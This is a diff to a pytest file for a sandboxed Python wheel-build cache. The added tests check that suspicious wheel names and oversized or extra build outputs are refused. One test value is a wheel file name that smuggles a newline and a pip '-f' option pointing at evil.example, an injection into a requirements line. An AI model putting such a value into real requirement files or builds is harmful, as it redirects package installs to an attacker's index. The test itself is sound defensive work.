@@ -158,7 +158,8 @@ def test_a_hostile_build_backend_runs_contained_and_cannot_poison_another_build(
         log_again: list[str] = []
         build_source_wheels(["pyspark==3.5.9"], tmp_path / "again" / "wheels", log_again.append,
                             cache=cache, index_url=url)
-        assert any("wheel built before from the same sdist" in line for line in log_again)
+        assert any("wheel built before from pyspark-3.5.9.tar.gz" in line for line in log_again)
+        assert not any("downloading" in line for line in log_again)  # known by the index's digest
         assert _origin(tmp_path / "again" / "wheels") == "ORIGIN = 'honest'\n"
         # A cached wheel changed on disk is not served.
         for wheel in cache.glob("*/*.whl"):
@@ -188,3 +189,32 @@ def test_an_sdist_whose_digest_differs_from_the_index_is_refused(tmp_path: Path)
         with pytest.raises(BuildFailed, match="cannot download the source of pyspark==3.5.9"):
             build_source_wheels(["pyspark==3.5.9"], tmp_path / "w", lambda _: None,
                                 cache=tmp_path / "cache", index_url=f"http://127.0.0.1:{port}/simple")
+
+
+@pytest.mark.parametrize("name", [
+    'x-1.0-py3-none-any.whl ; python_version<"0"\n-f https:evil.example\n# .whl',
+    "x-1.0-py3-none-any.whl#sha256=0",
+    "not-a-wheel-name.whl",
+])
+def test_a_wheel_name_the_sandbox_chose_is_checked_before_use(tmp_path: Path, name: str) -> None:
+    from workers.oci.python_env import _store_wheel
+
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / name).write_bytes(b"PK")
+    with pytest.raises(BuildFailed, match="invalid name|not one wheel"):
+        _store_wheel(out, tmp_path / "cache" / "entry", 1 << 20)
+    assert not (tmp_path / "cache" / "entry").exists()
+
+
+def test_the_built_wheel_must_be_alone_and_small(tmp_path: Path) -> None:
+    from workers.oci.python_env import _store_wheel
+
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "x-1.0-py3-none-any.whl").write_bytes(b"P" * 2048)
+    with pytest.raises(BuildFailed, match="larger than"):
+        _store_wheel(out, tmp_path / "cache" / "entry", 1024)
+    (out / "extra.txt").write_text("x")
+    with pytest.raises(BuildFailed, match="not one wheel"):
+        _store_wheel(out, tmp_path / "cache" / "entry", 1 << 20)
